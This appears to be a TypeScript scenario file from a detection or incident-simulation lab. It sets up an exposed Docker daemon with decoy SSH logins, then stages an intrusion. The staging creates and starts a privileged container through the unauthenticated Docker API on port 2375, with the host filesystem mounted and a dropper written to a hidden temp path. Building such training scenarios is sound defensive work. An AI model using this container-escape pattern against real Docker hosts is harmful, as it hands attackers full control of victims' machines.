// The login from an inside address right before is the one that has come for weeks.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { dockerOnTheNet } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(dockerOnTheNet)
  dress.account('ansible')
  const key = dress.key('ansible', 'ansible@control')
  dress.trust('ansible', key)
  dress.logins({
    days: 15,
    guesses: 40,
    friends: [{ user: 'ansible', address: '10.20.0.5', key: key.fingerprint, hours: [0, 4, 8, 12, 16, 20] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  await stage.ssh('10.20.0.5', 'ansible', { key: 'ansible' }, 'uptime')
  const line = dropper(stage, { path: '/tmp/.containerd/containerd-x' })
  stage.mark('occurrence')
  const body = { Image: 'alpine', Cmd: ['/bin/sh', '-c', line], HostConfig: { Binds: ['/:/mnt'], Privileged: true } }
  const made = await stage.http('203.0.113.93', ':2375/v1.24/containers/create', JSON.stringify(body), {
    'Content-Type': 'application/json',
  })
  const { Id } = JSON.parse(made) as { Id: string }
  await stage.http('203.0.113.93', `:2375/v1.24/containers/${Id}/start`, '')
}
